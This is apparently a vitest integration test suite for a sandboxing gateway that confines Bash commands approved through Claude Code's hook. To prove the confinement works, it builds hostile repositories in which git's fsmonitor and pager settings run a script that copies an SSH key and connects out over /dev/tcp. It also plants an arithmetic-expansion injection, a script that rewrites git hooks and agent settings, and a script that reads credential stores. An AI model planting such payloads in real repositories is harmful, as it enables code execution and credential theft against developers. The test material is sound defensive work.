import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ALEPH_BIN, useAlephHome } from './test-cli.js';

/**
 * The hook path as Claude Code walks it: `aleph hook claude-code` is fed the documented PreToolUse
 * input (test-fixtures/hooks/claude-code/pretooluse-bash.json) through a real gateway; an allowed
 * Bash command comes back rewritten (`updatedInput.command`), which the test runs as Claude Code
 * would, with bash in the call's cwd. Real bubblewrap, sockets and audit log throughout.
 */
const FIXTURE = fileURLToPath(new URL('../test-fixtures/hooks/claude-code/pretooluse-bash.json', import.meta.url));
const { home: alephHome, aleph } = useAlephHome();

let gateway: ChildProcess | undefined;
let scratch = '';
const userHome = () => join(scratch, 'home');
const project = () => join(userHome(), 'project');
const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key-but-a-secret-all-the-same\n-----END OPENSSH PRIVATE KEY-----\n';

beforeEach(() => {
  scratch = mkdtempSync(join(tmpdir(), 'aleph-confined-'));
  mkdirSync(join(userHome(), '.ssh'), { recursive: true, mode: 0o700 });
  writeFileSync(join(userHome(), '.ssh', 'id_rsa'), KEY, { mode: 0o600 });
  writeFileSync(join(userHome(), '.gitconfig'), '[user]\n\tname = Ada Tester\n\temail = ada@example.com\n[init]\n\tdefaultBranch = main\n');
  mkdirSync(project(), { recursive: true });
});
afterEach(async () => {
  if (gateway !== undefined && gateway.exitCode === null) {
    gateway.kill('SIGTERM');
    await new Promise((r) => gateway!.on('exit', r));
  }
  gateway = undefined;
  rmSync(scratch, { recursive: true, force: true });
});

function env(): NodeJS.ProcessEnv {
  const { CLAUDE_PROJECT_DIR: _c, ...rest } = process.env;
  return { ...rest, ALEPH_HOME: alephHome(), HOME: userHome(), NO_COLOR: '1', GIT_CONFIG_NOSYSTEM: '1' };
}

async function startGateway(): Promise<void> {
  gateway = spawn(process.execPath, [ALEPH_BIN, 'gateway', '--headless', '--json', '--port', '0', '--ask-timeout-ms', '60000'], {
    env: env(),
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  await new Promise<void>((resolve) => gateway!.stdout!.once('data', () => resolve()));
}

interface Ran {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function spawned(file: string, args: readonly string[], cwd: string, input?: string): Promise<Ran> {
  const child = spawn(file, args, { env: env(), cwd });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (d) => (stdout += d));
  child.stderr.on('data', (d) => (stderr += d));
  child.stdin.end(input ?? '');
  return new Promise((resolve) => child.on('exit', (code) => resolve({ code, stdout, stderr })));
}

interface Answer {
  readonly permissionDecision: string;
  readonly permissionDecisionReason: string;
  readonly updatedInput?: { readonly command: string };
}

/** The hook's answer to a Bash call in `cwd`. A call a person must decide is allowed by one: the most a verdict can let through. */
async function askHook(command: string, cwd = project()): Promise<Answer> {
  const input = readFileSync(FIXTURE, 'utf8')
    .replace('${PROJECT}', JSON.stringify(cwd).slice(1, -1))
    .replace('${COMMAND}', JSON.stringify(command).slice(1, -1));
  const answer = spawned(process.execPath, [ALEPH_BIN, 'hook', 'claude-code'], cwd, input);
  let finished = false;
  void answer.then(() => (finished = true));
  while (!finished) {
    const pending = (JSON.parse(aleph(['approvals', 'list', '--json']).stdout) as { pending: { id: string }[] }).pending;
    if (pending[0] !== undefined) {
      expect(aleph(['approvals', 'allow', pending[0].id]).code).toBe(0);
      break;
    }
    await new Promise((r) => setTimeout(r, 100));
  }
  const r = await answer;
  expect(r.code).toBe(0);
  return (JSON.parse(r.stdout) as { hookSpecificOutput: Answer }).hookSpecificOutput;
}

/** What Claude Code runs for an allowed Bash call: the (rewritten) command, with bash, in the call's cwd. */
function runAsAgent(answer: Answer, cwd = project()): Promise<Ran> {
  expect(answer.permissionDecision).toBe('allow');
  return spawned('bash', ['-c', answer.updatedInput!.command], cwd);
}

/** Allowed (by the policy or a person) and run as the agent would. */
async function agentRuns(command: string, cwd = project()): Promise<Ran> {
  const answer = await askHook(command, cwd);
  expect(answer.updatedInput?.command).toMatch(/ run --ticket [\w-]{22} -- /);
  return runAsAgent(answer, cwd);
}

function git(args: readonly string[], cwd = project()): string {
  const r = spawnSync('git', args, { cwd, env: env(), encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

/** A loopback server that counts the connections it gets. */
async function listener(): Promise<{ server: Server; port: number; connections: () => number }> {
  let count = 0;
  const server = createServer((socket) => {
    count++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return { server, port: address.port, connections: () => count };
}

/**
 * A repository whose `.git/config` runs a payload (`core.fsmonitor`, `core.pager`): it writes
 * $HOME/proof, copies the SSH key into the project, and connects to the test's server.
 */
function hostileRepository(port: number): void {
  git(['init', '-q']);
  writeFileSync(join(project(), 'README.md'), 'hello\n');
  git(['add', 'README.md']);
  git(['commit', '-qm', 'first']);
  const payload = join(project(), '.git', 'payload.sh');
  writeFileSync(
    payload,
    `#!/bin/bash\necho pwned > "$HOME/proof"\ncat "$HOME/.ssh/id_rsa" > "${project()}/stolen"\necho hi > /dev/tcp/127.0.0.1/${port}\nexit 0\n`,
  );
  chmodSync(payload, 0o755);
  const config = join(project(), '.git', 'config');
  writeFileSync(config, `${readFileSync(config, 'utf8')}[core]\n\tfsmonitor = ${payload}\n\tpager = ${payload}\n`);
}

function noHarm(connections: () => number): void {
  expect(existsSync(join(userHome(), 'proof'))).toBe(false);
  const stolen = join(project(), 'stolen');
  expect(existsSync(stolen) ? readFileSync(stolen, 'utf8') : '').not.toContain('not-a-real-key');
  expect(connections()).toBe(0);
}

describe('a hostile repository, through the hook path', () => {
  it('git status runs its fsmonitor payload only inside the sandbox: no proof in the home, no key read, no connection', async () => {
    const { server, port, connections } = await listener();
    try {
      hostileRepository(port);
      await startGateway();
      const answer = await askHook('git status');
      if (answer.permissionDecision === 'allow') {
        const r = await runAsAgent(answer);
        expect(r.stdout).toContain('On branch main');
        // The payload did run, inside: what it copied of the key is nothing.
        expect(readFileSync(join(project(), 'stolen'), 'utf8')).toBe('');
      }
      noHarm(connections);
      // The payload is real: run unconfined, as an agent without Aleph would, it does all three.
      spawnSync('bash', ['-c', 'git status'], { cwd: project(), env: env() });
      expect(readFileSync(join(userHome(), 'proof'), 'utf8')).toBe('pwned\n');
      expect(readFileSync(join(project(), 'stolen'), 'utf8')).toBe(KEY);
      await expect.poll(connections).toBeGreaterThan(0);
    } finally {
      server.close();
    }
  });

  it('an arithmetic expansion that runs a command, and a forced pager, stay inside the sandbox', async () => {
    const { server, port, connections } = await listener();
    try {
      hostileRepository(port);
      writeFileSync(join(project(), 'num.txt'), 'a[$(touch $HOME/proof)]\n');
      await startGateway();
      const arithmetic = await askHook('echo $(( $(cat num.txt) ))');
      if (arithmetic.permissionDecision === 'allow') expect((await runAsAgent(arithmetic)).stderr).toContain('aleph: the sandbox refused');
      noHarm(connections);
      // A pager runs only for a terminal: the rewritten command is given one, as a person's shell would.
      const pager = await askHook('git --paginate log --oneline');
      if (pager.permissionDecision === 'allow') {
        const r = await spawned('script', ['-qec', pager.updatedInput!.command, '/dev/null'], project());
        expect(r.stdout).toContain('aleph: the sandbox refused');
        expect(readFileSync(join(project(), 'stolen'), 'utf8')).toBe('');
      }
      noHarm(connections);
    } finally {
      server.close();
    }
  });
});

describe('run tickets', () => {
  it('run once, for the command and cwd that were judged; a replay, another command or another cwd runs nothing (126)', async () => {
    await startGateway();
    const answer = await askHook('echo ran >> log.txt');
    const first = await runAsAgent(answer);
    expect(first.code).toBe(0);
    expect(readFileSync(join(project(), 'log.txt'), 'utf8')).toBe('ran\n');
    // Audited under the judged request, with how it was confined.
    const finished = JSON.parse(aleph(['audit', 'search', '--event', 'command_finished', '--json']).stdout) as { rows: Record<string, unknown>[] };
    expect(JSON.stringify(finished.rows)).toContain('confined, no network');
    expect(JSON.stringify(finished.rows)).toContain('echo ran >> log.txt');

    const replay = await runAsAgent(answer);
    expect(replay.code).toBe(126);
    expect(replay.stderr).toContain('ticket_used');

    const other = await askHook('echo ran >> log.txt');
    const ticket = /--ticket ([\w-]+)/.exec(other.updatedInput!.command)![1]!;
    const swapped = await spawned(process.execPath, [ALEPH_BIN, 'run', '--ticket', ticket, '--', 'echo swapped >> log.txt'], project());
    expect(swapped.code).toBe(126);
    expect(swapped.stderr).toContain('ticket_mismatch');

    const elsewhere = join(scratch, 'elsewhere');
    mkdirSync(elsewhere);
    const moved = await runAsAgent(await askHook('echo ran >> log.txt'), elsewhere);
    expect(moved.code).toBe(126);
    expect(moved.stderr).toContain('ticket_mismatch');
    expect(existsSync(join(elsewhere, 'log.txt'))).toBe(false);
    expect(readFileSync(join(project(), 'log.txt'), 'utf8')).toBe('ran\n');

    const forged = await spawned(process.execPath, [ALEPH_BIN, 'run', '--ticket', 'AAAAAAAAAAAAAAAAAAAAAA', '--', 'echo ran >> log.txt'], project());
    expect(forged.code).toBe(126);
    expect(forged.stderr).toContain('ticket_unknown');
    // Each refusal is in the audit log, with its code.
    const refused = JSON.stringify(JSON.parse(aleph(['audit', 'search', '--event', 'policy_denied', '--json']).stdout));
    for (const code of ['ticket_used', 'ticket_mismatch', 'ticket_unknown']) expect(refused).toContain(code);
  });

  it('a run the sandbox refused says so on one aleph: line, and keeps the exit code', async () => {
    await startGateway();
    const r = await agentRuns('touch ~/dropped');
    expect(r.code).toBe(1);
    expect(existsSync(join(userHome(), 'dropped'))).toBe(false);
    const said = r.stderr.split('\n').filter((l) => l.startsWith('aleph:'));
    expect(said).toHaveLength(1);
    expect(said[0]).toMatch(/^aleph: the sandbox refused this command filesystem access .*confined, no network.*wider grant/);
  });
});

describe("the project's files that make programs outside the sandbox run code", () => {
  it("a confined run reads but cannot change git's hooks and configuration, nor the agent's project settings", async () => {
    git(['init', '-q']);
    mkdirSync(join(project(), '.claude'));
    const settings = join(project(), '.claude', 'settings.json');
    writeFileSync(settings, '{}\n');
    const config = readFileSync(join(project(), '.git', 'config'), 'utf8');
    // A submodule's git directory, as `git submodule add` makes it.
    const submodule = join(project(), '.git', 'modules', 'lib');
    mkdirSync(join(submodule, 'hooks'), { recursive: true });
    writeFileSync(join(submodule, 'config'), '[core]\n\tbare = false\n');
    // A repository's own script, as an approved `npm test` or `make` would run one.
    writeFileSync(
      join(project(), 'setup.sh'),
      [
        'printf "#!/bin/sh\\ntouch $HOME/proof\\n" > .git/hooks/pre-commit',
        'chmod +x .git/hooks/pre-commit',
        'printf "[core]\\n\\tfsmonitor = touch $HOME/proof\\n" >> .git/config',
        'git config core.hooksPath hooks',
        `echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch ~/proof"}]}]}}' > .claude/settings.json`,
        'printf "[core]\\n\\tfsmonitor = touch $HOME/proof\\n" >> .git/modules/lib/config',
        'mv .git/modules .git/modules-old',
        'cat .git/config > read.txt',
        // Moved aside, with another made in its place.
        'mv .git .git-old || mv .claude .claude-old',
        'mkdir -p .git/hooks .claude && cp -r .git-old/. .git/',
        'printf "[core]\\n\\tfsmonitor = touch $HOME/proof\\n" >> .git/config',
        'echo done',
      ].join('\n'),
    );
    await startGateway();
    const r = await agentRuns('bash setup.sh');
    expect(r.stdout).toBe('done\n');
    expect(r.stderr).toContain('aleph: the sandbox refused');
    expect(existsSync(join(project(), '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(project(), '.git', 'config'), 'utf8')).toBe(config);
    expect(readFileSync(join(submodule, 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
    expect(existsSync(join(project(), '.git', 'modules-old'))).toBe(false);
    expect(readFileSync(settings, 'utf8')).toBe('{}\n');
    expect(readFileSync(join(project(), 'read.txt'), 'utf8')).toBe(config);
    expect(existsSync(join(project(), '.git-old'))).toBe(false);
    expect(existsSync(join(project(), '.claude-old'))).toBe(false);
    // git itself still works there: status, add, commit.
    writeFileSync(join(project(), 'a.txt'), 'a\n');
    expect((await agentRuns('git add a.txt')).code).toBe(0);
    expect((await agentRuns("git commit -qm 'first'")).code).toBe(0);
    expect(git(['log', '--format=%s'])).toBe('first\n');
    expect(existsSync(join(userHome(), 'proof'))).toBe(false);
  });
});

describe("the home's secret stores, read by what a confined run starts", () => {
  it("git credentials in the XDG location, a token in a tool cache, shell history and build tools' credentials read as nothing", async () => {
    const stores = [
      '.config/git/credentials',
      '.cache/huggingface/token',
      '.bash_history',
      '.m2/settings.xml',
      '.gradle/gradle.properties',
      '.gem/credentials',
    ];
    for (const rel of stores) {
      mkdirSync(join(userHome(), rel, '..'), { recursive: true });
      writeFileSync(join(userHome(), rel), `secret-of-${rel}\n`, { mode: 0o600 });
    }
    // A repository's own script, as an approved `npm test` would run one.
    writeFileSync(join(project(), 'collect.sh'), stores.map((rel) => `cat ~/${rel} 2>/dev/null`).join('\n') + '\necho collected\n');
    await startGateway();
    const r = await agentRuns('bash collect.sh');
    expect(r.stdout).toBe('collected\n');
  });
});

describe('a directory too broad to be the project', () => {
  it('a run above the home, or in the shared /tmp, writes nothing there: refused (126), nothing run', async () => {
    await startGateway();
    // The scratch directory holds the home: as the project, it would be granted read-write.
    const above = await runAsAgent(await askHook('echo ran > above.txt', scratch), scratch);
    expect(above.code).toBe(126);
    expect(above.stderr).toMatch(/^aleph: refused: .* is no place to run an approved command: a directory that holds the home directory/m);
    expect(existsSync(join(scratch, 'above.txt'))).toBe(false);

    const shared = realpathSync(tmpdir());
    const name = `aleph-shared-${process.pid}-${Date.now()}.txt`;
    try {
      const inTmp = await runAsAgent(await askHook(`echo ran > ${name}`, shared), shared);
      expect(inTmp.code).toBe(126);
      expect(inTmp.stderr).toMatch(/is no place to run an approved command: the temporary directory every program shares/);
      expect(existsSync(join(shared, name))).toBe(false);
    } finally {
      rmSync(join(shared, name), { force: true });
    }

    // The home itself stays a place to work in: read, and written nowhere but its caches.
    mkdirSync(join(userHome(), '.claude'));
    writeFileSync(join(userHome(), '.claude', 'settings.json'), '{}\n');
    const inHome = await runAsAgent(await askHook('ls; echo ran > home.txt; echo ran > .claude/notes.md', userHome()), userHome());
    expect(inHome.stdout).toContain('project');
    expect(existsSync(join(userHome(), 'home.txt'))).toBe(false);
    expect(existsSync(join(userHome(), '.claude', 'notes.md'))).toBe(false);
  });
});

describe.runIf(process.platform === 'linux')("inside an agent's own sandbox (real nested bubblewrap)", () => {
  it('the confined run says it cannot nest, runs nothing, and exits 126', async () => {
    await startGateway();
    const answer = await askHook('echo ran >> log.txt');
    // As an agent's sandbox mode encloses its commands: the system read-only, the project writable, its own /proc.
    const enclosing = ['--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', '--bind', scratch, scratch, '--unshare-all', '--unshare-user'];
    const r = await spawned('bwrap', [...enclosing, '--chdir', project(), '--', 'bash', '-c', answer.updatedInput!.command], project());
    expect(r.code).toBe(126);
    expect(r.stderr).toMatch(/^aleph: refused: This command already runs inside a bubblewrap sandbox.*nothing was run/m);
    expect(existsSync(join(project(), 'log.txt'))).toBe(false);
  });
});

describe('everyday work in the agent profile, through the hook path', () => {
  it('git status, diff, add and commit; npm test; a Python script; reading ~/.gitconfig', async () => {
    git(['init', '-q']);
    writeFileSync(join(project(), 'notes.txt'), 'one\n');
    git(['add', 'notes.txt']);
    git(['commit', '-qm', 'first']);
    writeFileSync(join(project(), 'notes.txt'), 'one\ntwo\n');
    writeFileSync(join(project(), 'package.json'), JSON.stringify({ name: 'small', version: '1.0.0', scripts: { test: 'node test.js' } }));
    writeFileSync(join(project(), 'test.js'), "console.log('tests passed:', 1 + 1 === 2);\n");
    await startGateway();

    const status = await agentRuns('git status --short');
    expect([status.code, status.stdout]).toEqual([0, ' M notes.txt\n?? package.json\n?? test.js\n']);
    const diff = await agentRuns('git diff');
    expect(diff.code).toBe(0);
    expect(diff.stdout).toContain('+two');
    expect((await agentRuns('git add notes.txt')).code).toBe(0);
    const commit = await agentRuns("git commit -m 'second'");
    expect(commit.code).toBe(0);
    expect(git(['log', '--format=%s %an'])).toBe('second Ada Tester\nfirst Ada Tester\n');

    const npm = await agentRuns('npm test');
    expect(npm.code).toBe(0);
    expect(npm.stdout).toContain('tests passed: true');

    const gitconfig = await agentRuns('cat ~/.gitconfig');
    expect([gitconfig.code, gitconfig.stdout]).toEqual([0, readFileSync(join(userHome(), '.gitconfig'), 'utf8')]);

    const failing = await agentRuns('exit 3');
    expect(failing.code).toBe(3);

    if (spawnSync('python3', ['--version']).status !== 0) {
      console.warn('SKIPPED: python3 is not installed, so the Python case of the everyday-work test did not run.');
      return;
    }
    writeFileSync(join(project(), 'write.py'), "open('out.txt', 'w').write('from python\\n')\nprint('written')\n");
    const python = await agentRuns('python3 write.py');
    expect([python.code, python.stdout]).toEqual([0, 'written\n']);
    expect(readFileSync(join(project(), 'out.txt'), 'utf8')).toBe('from python\n');
  });
});
